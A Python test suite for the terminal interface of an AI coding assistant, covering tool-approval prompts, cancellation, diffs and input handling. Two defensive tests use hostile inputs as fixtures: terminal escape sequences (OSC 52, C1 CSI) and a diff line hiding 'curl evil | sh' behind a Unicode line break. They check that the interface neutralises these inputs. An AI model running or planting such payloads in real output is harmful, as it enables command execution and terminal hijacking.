"""The Textual app driven by Pilot with recorded agent events (fast, deterministic)."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from rich.text import Text
from textual.widgets import Collapsible, Input, Log, TextArea

from assistant.agent.events import TextEvent, TurnEndEvent
from assistant.ui.history import InputHistory
from assistant.ui.widgets import (
    ApprovalPrompt,
    AssistantMessage,
    Notice,
    StatusBar,
    ToolCard,
    UserMessage,
)
from tests.ui.conftest import approval_ready, make_app, text_of, wait_for
from tests.ui.replay import ReplayAgent, approval_script, conversation_script, words

SIZE = (100, 40)


async def type_and_send(pilot, text: str) -> None:  # type: ignore[no-untyped-def]
    await pilot.press(*[("space" if c == " " else c) for c in text])
    await pilot.press("enter")


async def test_conversation_renders_messages_cards_and_status() -> None:
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "fix greet")
        await app.wait_idle(10)
        await pilot.pause()
        users = app.query(UserMessage)
        assert [u.text for u in users] == ["fix greet"]
        replies = list(app.query(AssistantMessage))
        assert replies[0].text.startswith("Here is the plan")
        assert replies[-1].text == "The test passes now."
        cards = {c.call_id: c for c in app.query(ToolCard)}
        shell, edit = cards["call_shell"], cards["call_edit"]
        assert shell.state == "error" and shell.exit_code == 1  # exit 1 shows as a failure
        assert "FAILED" in shell.result_text
        assert edit.state == "ok"
        assert edit.query(".tool-diff"), "the edit shows its diff"
        status = app.query_one(StatusBar)
        assert status.context_tokens == 1930 and status.tokens_per_s == 48.5
        rendered = str(status.render())
        assert "SmolLM2-135M-Instruct" in rendered and "1.9k/8.2k 24%" in rendered
        assert (
            "48.5 tok/s" in rendered and "approve: ask" in rendered and "docker: idle" in rendered
        )
        assert not app.busy and status.busy == ""


async def test_streaming_freezes_finished_blocks_and_renders_only_the_tail() -> None:
    gate = asyncio.Event()

    class Slow(ReplayAgent):
        async def run(self, text, *, tool_choice="auto"):  # type: ignore[no-untyped-def]
            for w in words("First paragraph.\n\n```python\nx = 1\n\ny = 2\n```\n\nThe tail so far"):
                yield TextEvent(w)
            await gate.wait()
            yield TextEvent(" and more.")
            yield TurnEndEvent("done")

    app = make_app(Slow())
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "hi")
        await wait_for(
            lambda: (
                app.transcript.current is not None
                and app.transcript.current.text.endswith("so far")
            )
        )
        current = app.transcript.current
        assert current is not None
        await pilot.pause(0.3)  # past one frame interval
        blocks = "".join(text_of(b) for b in current.query(".block"))
        assert "First paragraph." in blocks and "y = 2" in blocks
        n_blocks = len(current.query(".block"))
        assert "The tail so far" in text_of(current._tail)
        assert app.status.busy == "generating"
        gate.set()
        await app.wait_idle(5)
        await pilot.pause()
        assert n_blocks >= 1
        final = text_of(current._tail)  # finished: rendered whole, once, as a replay would
        assert "First paragraph." in final and "The tail so far and more." in final
        assert not current.query(".block")
        assert app.status.busy == ""


def test_settled_length_respects_code_fences() -> None:
    from assistant.ui.widgets.message import settled_length

    assert settled_length("a\n\nb") == 3
    assert settled_length("```\nx\n\ny") == 0
    assert settled_length("```\nx\n```\n\nz") == len("```\nx\n```\n\n")
    assert settled_length("no newline yet") == 0


async def test_approval_keys_allow_once_session_always(tmp_path: Path) -> None:
    for key, decision in [("y", "allow_once"), ("a", "allow_session"), ("s", "always")]:
        agent = ReplayAgent(approval_script())
        app = make_app(agent)
        async with app.run_test(size=SIZE) as pilot:
            await type_and_send(pilot, "fix it")
            await wait_for(lambda app=app: approval_ready(app))
            prompt = app.query_one(ApprovalPrompt)
            assert app.focused is prompt
            assert "Hello, {name}!" in text_of(prompt.query_one(".approval-preview"))
            remembers = text_of(prompt.query_one(".approval-remembers")).strip()
            assert remembers == "[a]/[s] remember: edit_file: greet.py"
            assert app.transcript.cards["call_edit"].state == "waiting"
            assert app.status.busy == "awaiting approval"
            await pilot.press(key)
            await app.wait_idle(5)
            await pilot.pause()
            assert str(agent.replies[-1].decision) == decision
            assert not app.query(ApprovalPrompt), "the prompt goes away"
            assert app.focused is app.prompt
            assert app.transcript.cards["call_edit"].state == "ok"


async def test_deny_with_reason_reaches_the_agent() -> None:
    agent = ReplayAgent(approval_script())
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "fix it")
        await wait_for(lambda: approval_ready(app))
        await pilot.press("n")
        await pilot.pause()
        assert isinstance(app.focused, Input)
        await type_and_send(pilot, "use the logger")
        await app.wait_idle(5)
        await pilot.pause()
        reply = agent.replies[-1]
        assert str(reply.decision) == "deny" and reply.reason == "use the logger"
        card = app.transcript.cards["call_edit"]
        assert card.state == "denied"
        assert "use the logger" in text_of(card._state_label)


async def test_edit_arguments_as_json_before_running() -> None:
    agent = ReplayAgent(approval_script())
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "fix it")
        await wait_for(lambda: approval_ready(app))
        await pilot.press("e")
        await pilot.pause()
        editor = app.query_one(".approval-editor", TextArea)
        assert json.loads(editor.text)["path"] == "greet.py"
        editor.load_text("{not json")
        await pilot.press("ctrl+s")
        await pilot.pause()
        assert not agent.replies, "invalid JSON is refused, the prompt stays"
        assert "Not valid JSON" in text_of(app.query_one(".approval-hint"))
        editor.load_text(json.dumps({"path": "other.py", "old": "a", "new": "b"}))
        await pilot.press("ctrl+s")
        await app.wait_idle(5)
        reply = agent.replies[-1]
        assert str(reply.decision) == "allow_once"
        assert reply.edited_arguments == {"path": "other.py", "old": "a", "new": "b"}


async def test_ctrl_c_during_approval_denies_and_cancels() -> None:
    agent = ReplayAgent(approval_script())
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "fix it")
        await wait_for(lambda: approval_ready(app))
        await pilot.press("ctrl+c")
        await app.wait_idle(5)
        assert agent.cancelled
        assert str(agent.replies[-1].decision) == "deny"


async def test_ctrl_c_cancels_a_running_generation() -> None:
    class Endless(ReplayAgent):
        async def run(self, text, *, tool_choice="auto"):  # type: ignore[no-untyped-def]
            self.cancelled = False
            while not self.cancelled:
                yield TextEvent("tok ")
                await asyncio.sleep(0.01)
            yield TurnEndEvent("cancelled")

    agent = Endless()
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "go")
        await wait_for(lambda: app.transcript.current is not None)
        await pilot.press("ctrl+c")
        await app.wait_idle(5)
        await pilot.pause()
        assert agent.cancelled
        notices = [n.text for n in app.query(Notice)]
        assert "Stopped: cancelled." in notices


async def test_input_history_persists_and_walks_with_up_down(tmp_path: Path) -> None:
    path = tmp_path / "history.jsonl"
    app = make_app(ReplayAgent([]))
    app.history = InputHistory(path)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "first")
        await app.wait_idle(5)
        await pilot.press(*"multi", "shift+enter", *"line", "enter")
        await app.wait_idle(5)
        await pilot.press(*"draft")
        await pilot.press("up")
        assert app.prompt.text == "multi\nline"
        await pilot.press("up", "up")  # the cursor is on line 1 of 2: first Up moves, then history
        assert app.prompt.text == "first"
        await pilot.press("down")
        assert app.prompt.text == "multi\nline"
        await pilot.press("down", "down")
        assert app.prompt.text == "draft"
    assert [json.loads(line) for line in path.read_text().splitlines()] == ["first", "multi\nline"]
    assert InputHistory(path).entries == ["first", "multi\nline"]


async def test_tab_completes_commands_and_paths(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.py").write_text("print('hi')\n")
    app = make_app(ReplayAgent([]), workspace=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("slash", "r", "e", "s", "tab")
        assert app.prompt.text == "/resume "
        app.prompt.clear()
        await pilot.press("slash", "m", "o", "tab")
        await pilot.pause()
        assert app.prompt.text == "/mode"
        hint = app.query_one("#completions")
        assert hint.display and "/model" in text_of(hint)
        app.prompt.clear()
        await pilot.press(*"look at @sr", "tab")
        assert app.prompt.text.endswith("@src/")
        await pilot.press("m", "tab")
        assert app.prompt.text.endswith("@src/main.py ")


async def test_at_path_attaches_file_content(tmp_path: Path) -> None:
    (tmp_path / "notes.md").write_text("SECRET-CONTENT-42\n")
    agent = ReplayAgent([TurnEndEvent("done")])
    app = make_app(agent, workspace=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        app.prompt.load_text("summarise @notes.md please")
        await pilot.press("enter")
        await app.wait_idle(5)
        await pilot.pause()
        sent, _choice = agent.prompts[-1]
        assert "SECRET-CONTENT-42" in sent and '<file path="notes.md">' in sent
        user = app.query_one(UserMessage)
        assert user.text == "summarise @notes.md please"
        assert "notes.md" in text_of(user)


async def test_slash_commands_in_the_app(tmp_path: Path) -> None:
    agent = ReplayAgent([])
    app = make_app(agent, workspace=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "/help")
        await pilot.pause()
        assert "/resume" in app.query(Notice).last().text
        await type_and_send(pilot, "/mode auto")
        await pilot.pause()
        assert agent.approver.mode == "auto" and app.status.mode == "auto"
        await type_and_send(pilot, "/mode bogus")
        await pilot.pause()
        last = app.query(Notice).last()
        assert last.kind == "error" and "bogus" in last.text
        await type_and_send(pilot, "/tools")
        await pilot.pause()
        assert "write_file" in app.query(Notice).last().text
        await type_and_send(pilot, "/save conv.json")
        await pilot.pause()
        assert json.loads((tmp_path / "conv.json").read_text())["messages"][0]["role"] == "system"
        await type_and_send(pilot, "/cost")
        await pilot.pause()
        assert "812" in app.query(Notice).last().text
        await type_and_send(pilot, "/nonsense")
        await pilot.pause()
        assert app.query(Notice).last().kind == "error"
        await type_and_send(pilot, "/quit")
        await pilot.pause()
    assert app.return_code == 0


async def test_long_output_collapses_and_ctrl_o_expands() -> None:
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        card = await _mount_long_card(app)
        assert card.collapsible is not None and card.collapsible.collapsed
        await pilot.press("ctrl+o")
        await pilot.pause()
        assert not card.collapsible.collapsed
        assert isinstance(card.collapsible, Collapsible)


async def _mount_long_card(app):  # type: ignore[no-untyped-def]
    from assistant.agent.events import ToolCallEvent, ToolResultEvent

    await app.transcript.handle(ToolCallEvent("c9", "run_shell", {"command": "seq 100"}))
    await app.transcript.handle(
        ToolResultEvent(
            "c9", "run_shell", "\n".join(map(str, range(100))), exit_code=0, duration_s=0.1
        )
    )
    return app.transcript.cards["c9"]


async def test_messages_sent_while_busy_are_queued() -> None:
    gate = asyncio.Event()

    class Gated(ReplayAgent):
        async def run(self, text, *, tool_choice="auto"):  # type: ignore[no-untyped-def]
            self.prompts.append((text, tool_choice))
            yield TextEvent(f"re: {text}")
            if len(self.prompts) == 1:
                await gate.wait()
            yield TurnEndEvent("done")

    agent = Gated()
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "one")
        await wait_for(lambda: app.busy)
        await type_and_send(pilot, "two")
        await pilot.pause()
        assert app.queue == ["two"]
        gate.set()
        await wait_for(lambda: len(agent.prompts) == 2)
        await app.wait_idle(5)
        assert [p for p, _ in agent.prompts] == ["one", "two"]


async def test_replay_of_a_thousand_messages_mounts_and_scrolls() -> None:
    from tests.ui.bench_data import thousand_messages

    app = make_app(ReplayAgent([]))
    async with app.run_test(size=SIZE) as pilot:
        await app.transcript.replay(thousand_messages())
        await pilot.pause()
        from assistant.ui.widgets.transcript import BATCH, WINDOW

        transcript = app.transcript
        assert len(transcript.children) == WINDOW + 1  # the newest, plus the "earlier" marker
        assert len(transcript.earlier) == 1000 - WINDOW
        assert "880 earlier messages" in text_of(transcript.marker)
        await pilot.press("a", "b")
        assert app.prompt.text == "ab"
        transcript.scroll_home(animate=False)
        await wait_for(lambda: len(transcript.earlier) == 1000 - WINDOW - BATCH)
        await wait_for(lambda: transcript.scroll_y > 0)  # the view stays where it was
        users = [w.text for w in transcript.query(UserMessage)]
        assert users[0] == "Question 390: what does function_390 do?"


async def test_light_theme_and_toggle() -> None:
    app = make_app(theme="light")
    async with app.run_test(size=SIZE) as pilot:
        assert app.theme == "textual-light"
        await pilot.press("ctrl+t")
        assert app.theme == "textual-dark"


def test_recorded_script_is_consistent() -> None:
    ids = {e.id for e in conversation_script() if getattr(e, "type", "") == "tool_call"}
    assert ids == {"call_shell", "call_edit"}


async def test_startup_notices_reach_the_transcript_once_they_are_known() -> None:
    # Servers start in the background: the app must not wait for them to become usable.
    release = asyncio.Event()

    async def notices() -> list[str]:
        await release.wait()
        return [
            "Ignored from ./.assistant.toml until you trust this directory: approval.mode.",
            "MCP server tracker did not start: connection refused.",
        ]

    app = make_app()
    app.startup_notices = notices
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        assert not list(app.query(Notice))
        release.set()
        await wait_for(lambda: len(app.query(Notice)) == 2)
        shown = [n for n in app.query(Notice)]
        assert all(n.kind == "warning" for n in shown)
        assert "until you trust this directory" in text_of(shown[0])
        assert "tracker did not start" in text_of(shown[1])


async def test_control_characters_from_the_model_and_tools_never_reach_the_terminal(
    tmp_path: Path,
) -> None:
    from assistant.agent.events import ErrorEvent, ToolCallEvent, ToolOutputEvent, ToolResultEvent
    from assistant.llm.base import ToolCall
    from tests.ui.replay import Ask
    from tests.ui.test_plain import HOSTILE

    def screen(app) -> str:  # type: ignore[no-untyped-def]
        """What the app writes to the terminal for the whole screen now."""
        update = app.screen._compositor.render_update(full=True)
        return update.render_segments(app.console)

    def clean(out: str) -> None:
        for bad in ("\x1b]", "\x1b[8m", "\x9b", "\x07", "\x08"):
            assert bad not in out, repr(out)

    shell = ToolCall("run_shell", {"command": "ls " + HOSTILE}, id="call_shell")
    write = ToolCall("write_file", {"path": "a.txt", "content": HOSTILE}, id="call_write")
    agent = ReplayAgent(
        [
            TextEvent("Reply " + HOSTILE + "\n\nmore"),
            ToolCallEvent(shell.id, shell.name, shell.arguments),
            ToolOutputEvent(shell.id, "live " + HOSTILE + "\n"),
            ToolResultEvent(shell.id, shell.name, "result " + HOSTILE, exit_code=0),
            ToolCallEvent(write.id, write.name, write.arguments),
            Ask(write, "+diff " + HOSTILE + "\n", "why " + HOSTILE),
            ErrorEvent("error " + HOSTILE),
            TurnEndEvent("done"),
        ],
        workspace=tmp_path,
    )

    async def notices() -> list[str]:
        return ["MCP server evil: failed: the server exited (" + HOSTILE + ")"]

    app = make_app(agent, workspace=tmp_path)
    app.startup_notices = notices
    async with app.run_test(size=(120, 80)) as pilot:
        await type_and_send(pilot, "go")
        await wait_for(lambda: approval_ready(app))
        await pilot.pause()
        out = screen(app)
        assert "why ␛]52" in out and "+diff ␛]52" in out and "Reply ␛]52" in out
        clean(out)
        await pilot.press("y")
        await app.wait_idle(5)
        await pilot.pause()
        out = screen(app)
        assert "error ␛]52" in out and "evil" in out
        clean(out)
        app._track(ToolCallEvent("call_x", "t\x1b]0;x\x07", {}))  # a name the model made up
        await pilot.pause()
        out = screen(app)
        clean(out)
        assert "running t␛]0;x␇" in out


async def test_the_approval_editor_and_completion_send_no_control_characters(
    tmp_path: Path,
) -> None:
    from assistant.llm.base import ToolCall
    from tests.ui.replay import Ask

    # JSON escapes C0 controls but not DEL or the C1 ones (0x9B is a CSI to a terminal).
    content = "a\x9b2Jb\x7fc\x1b]0;t\x07"
    write = ToolCall("write_file", {"path": "a.txt", "content": content}, id="call_write")
    agent = ReplayAgent([Ask(write, None), TurnEndEvent("done")], workspace=tmp_path)
    (tmp_path / "x\x1b]0;t\x07.py").write_text("")
    (tmp_path / "xy.py").write_text("")
    app = make_app(agent, workspace=tmp_path)
    async with app.run_test(size=(120, 40)) as pilot:
        await type_and_send(pilot, "go")
        await wait_for(lambda: approval_ready(app))
        await pilot.press("e")
        await pilot.pause()
        editor = app.query_one(".approval-editor", TextArea)
        out = app.screen._compositor.render_update(full=True).render_segments(app.console)
        assert "a\\u009b2Jb\\u007fc" in out
        assert not set(editor.text) & {"\x9b", "\x7f", "\x1b", "\x07"}
        await pilot.press("ctrl+s")
        await app.wait_idle(5)
        assert agent.replies[-1].edited_arguments == {"path": "a.txt", "content": content}
        await pilot.press(*"see @x", "tab")
        await pilot.pause()
        assert app.prompt.text == "see @xy.py "  # the name with an ESC is not offered


async def test_a_ten_thousand_line_diff_is_shown_cut_short(
    tmp_path: Path,
) -> None:
    """The real agent, a scripted model and the real write_file: a new 10,000-line file's
    diff is shown up to DIFF_SHOWN_LINES lines in the approval prompt and in the tool card,
    each with a marker; the whole file is written."""
    from assistant.ui.diffview import DIFF_SHOWN_LINES
    from tests.ui.conftest import big_write_agent

    agent, content = big_write_agent(tmp_path)
    app = make_app(agent, workspace=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "write it")
        await wait_for(lambda: approval_ready(app), timeout=20)
        await pilot.pause()
        prompt = app.query_one(ApprovalPrompt)
        preview = text_of(prompt.query_one(".approval-preview"))
        assert "+line 0" in preview and f"+line {DIFF_SHOWN_LINES - 4}" in preview
        assert "+line 9999" not in preview
        assert len(preview.splitlines()) <= DIFF_SHOWN_LINES
        marker = text_of(prompt.query_one(".approval-clipped"))
        # 10,003 lines: the two file names, one hunk header and 10,000 added lines
        assert f"{10_003 - DIFF_SHOWN_LINES:,} more lines of this diff not shown" in marker
        assert "allowing applies the whole change" in marker
        await pilot.press("d")  # all 10,003 lines, drawn only where they are seen
        await pilot.pause()
        log = app.screen.query_one(".diff-log", Log)
        assert log.line_count == 10_003 and log.lines[-1] == "+line 9999"
        await pilot.press("escape")
        await pilot.pause()
        assert app.focused is prompt and not prompt.future.done()
        await pilot.press("y")
        await app.wait_idle(20)
        await pilot.pause()
        assert (tmp_path / "big.txt").read_text() == content
        card = app.transcript.cards[next(iter(app.transcript.cards))]
        await pilot.press("ctrl+o")  # expand the card's diff: it is laid out now
        await pilot.pause()
        shown = text_of(card.query_one(".tool-diff"))
        assert "+line 0" in shown and "+line 9999" not in shown
        assert "more lines of this diff not shown: the whole change was applied" in shown
        assert len(shown.splitlines()) <= DIFF_SHOWN_LINES + 2
        await type_and_send(pilot, "/diff")
        await pilot.pause()
        listed = text_of(app.query(Notice).last())
        assert "+line 0" in listed and "+line 9999" not in listed
        assert "more lines of this diff not shown: the workspace holds the whole change" in listed


def shown_lines(log) -> str:  # type: ignore[no-untyped-def]
    """The text of the lines a Log draws in its window now."""
    return "\n".join(log.render_line(y).text for y in range(log.size.height))


async def test_d_shows_the_whole_diff_and_escape_returns_to_the_pending_approval(
    tmp_path: Path,
) -> None:
    """A 1,000-line write's approval: ``d`` opens the whole diff over the app, its last
    line (which the cut preview lacks) is there; Escape comes back to the same prompt,
    which is still waiting, and ``y`` then writes the file."""
    from assistant.ui.widgets.diffscreen import DiffLog, DiffScreen
    from tests.ui.conftest import big_write_agent

    agent, content = big_write_agent(tmp_path, lines=1000)
    app = make_app(agent, workspace=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "write it")
        await wait_for(lambda: approval_ready(app), timeout=20)
        await pilot.pause()
        prompt = app.query_one(ApprovalPrompt)
        assert "+line 999" not in text_of(prompt.query_one(".approval-preview"))
        box = prompt.query_one(".approval-preview-box")  # the 400 lines shown scroll in it
        assert box.size.height == 30 and box.virtual_size.height >= 400
        assert box.allow_vertical_scroll, "the lines below the box can be scrolled to"
        marker = text_of(prompt.query_one(".approval-clipped"))
        assert "603 more lines of this diff not shown: press d to see the whole diff" in marker
        assert "[d] whole diff" in text_of(prompt.query_one(".approval-keys"))
        await pilot.press("d")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, DiffScreen)
        log = screen.query_one(DiffLog)
        assert app.focused is log
        assert log.line_count == 1003 and log.lines[-1] == "+line 999"
        assert "the whole diff, 1,003 lines" in text_of(screen.query_one(".diff-title"))
        assert "+line 0" in shown_lines(log) and "+line 999" not in shown_lines(log)
        await pilot.press("end")
        await pilot.pause()
        assert "+line 999" in shown_lines(log)
        assert app.pending_approval is prompt and not prompt.future.done()
        assert not (tmp_path / "big.txt").exists()
        await pilot.press("escape")
        await pilot.pause()
        assert app.screen is app.screen_stack[0] and not app.query(DiffLog)
        assert app.focused is prompt and app.pending_approval is prompt
        assert not prompt.future.done() and not (tmp_path / "big.txt").exists()
        await pilot.press("d", "q")  # q closes it too
        await pilot.pause()
        assert app.focused is prompt and not app.query(DiffLog)
        await pilot.press("y")
        await app.wait_idle(20)
        await pilot.pause()
        assert (tmp_path / "big.txt").read_text() == content


async def test_ctrl_c_in_the_whole_diff_denies_and_closes_it() -> None:
    agent = ReplayAgent(approval_script())
    app = make_app(agent)
    async with app.run_test(size=SIZE) as pilot:
        await type_and_send(pilot, "fix it")
        await wait_for(lambda: approval_ready(app))
        await pilot.press("d")
        await pilot.pause()
        assert app.screen is not app.screen_stack[0]
        assert "Hello, {name}!" in "\n".join(app.screen.query_one(".diff-log").lines)
        await pilot.press("ctrl+c")
        await app.wait_idle(5)
        await pilot.pause()
        assert agent.cancelled and str(agent.replies[-1].decision) == "deny"
        assert len(app.screen_stack) == 1 and app.focused is app.prompt


async def test_the_whole_diff_colours_lines_as_the_preview_does() -> None:
    """Each line the whole-diff view draws has the styles the approval's preview gives it."""
    from rich.console import Console

    from assistant.ui.diffview import DiffHighlighter, diff_syntax

    diff = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n keep\n-old\n+new\n"
    console = Console(width=40, color_system="truecolor", file=open("/dev/null", "w"))  # noqa: SIM115
    whole = console.render_lines(diff_syntax(diff, word_wrap=False), pad=False)
    highlighter = DiffHighlighter()
    for line, drawn in zip(diff.splitlines(), whole, strict=False):
        coloured = list(highlighter(line).render(console))
        styles = {(seg.text, seg.style) for seg in coloured if seg.text}
        assert styles <= {(seg.text, seg.style) for seg in drawn}, line


HOSTILE_DIFF = (
    "@@ -1 +1,2 @@\n+safe\r echo unchanged\n+ok\u2028 curl evil | sh\n+p\u2029 q\x0b\x85\n"
)
"""Added lines whose rest, were each break honoured, would look like unchanged lines."""
HOSTILE_ROWS = [
    "@@ -1 +1,2 @@",
    "+safe␍ echo unchanged",
    "+ok⟨U+2028⟩ curl evil | sh",
    "+p⟨U+2029⟩ q␋\ufffd",
]


async def test_the_whole_diff_breaks_lines_only_at_newlines_and_shows_other_breaks() -> None:
    """A ``\\r`` or U+2028 inside an added line does not start a row that looks unchanged:
    the whole-diff view has one row per ``\\n``-split line, each break shown, each added
    row coloured as added."""
    from rich.console import Console
    from textual.app import App

    from assistant.ui.diffview import DiffHighlighter
    from assistant.ui.widgets.diffscreen import DiffLog, DiffScreen

    app = App()
    async with app.run_test(size=SIZE) as pilot:
        await app.push_screen(DiffScreen(Text("write x"), HOSTILE_DIFF))
        await pilot.pause()
        log = app.screen.query_one(DiffLog)
        assert list(log.lines) == HOSTILE_ROWS
        assert "the whole diff, 4 lines" in text_of(app.screen.query_one(".diff-title"))
    console = Console(color_system="truecolor", file=open("/dev/null", "w"))  # noqa: SIM115
    added = DiffHighlighter()("+safe").render(console)
    added_style = next(seg.style for seg in added if seg.text)
    for row in HOSTILE_ROWS[1:]:
        styles = {seg.style for seg in DiffHighlighter()(row).render(console) if seg.text}
        assert styles == {added_style}, row


def test_the_cut_preview_shows_the_same_rows_as_the_whole_diff() -> None:
    """The approval's preview (and the plain REPL's d) lay a diff out with pygments, which
    reads a \\r as a newline: it shows the same rows as the whole-diff view, all added."""
    from rich.console import Console

    from assistant.ui.diffview import diff_syntax

    console = Console(width=60, color_system="truecolor", file=open("/dev/null", "w"))  # noqa: SIM115
    rows = console.render_lines(diff_syntax(HOSTILE_DIFF, word_wrap=False), pad=False)
    shown = ["".join(seg.text for seg in row).rstrip() for row in rows]
    assert shown[: len(HOSTILE_ROWS)] == HOSTILE_ROWS and not any(shown[len(HOSTILE_ROWS) :])
    added = {seg.style.color for seg in rows[1] if seg.text.strip()}
    assert len(added) == 1 and all(
        {seg.style.color for seg in row if seg.text.strip()} == added for row in rows[2:4]
    )


def test_a_short_diff_is_shown_whole_and_long_lines_are_cut() -> None:
    from assistant.ui.diffview import DIFF_LINE_CHARS, clip_diff, diff_marker

    short = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"
    assert clip_diff(short) == (short, 0, False)
    wide = clip_diff("+" + "x" * 10_000 + "\n+y\n")
    assert wide.text == "+" + "x" * (DIFF_LINE_CHARS - 1) + "…\n+y" and wide.hidden == 0
    assert "long lines of this diff are cut short" in str(diff_marker(wide, "n"))
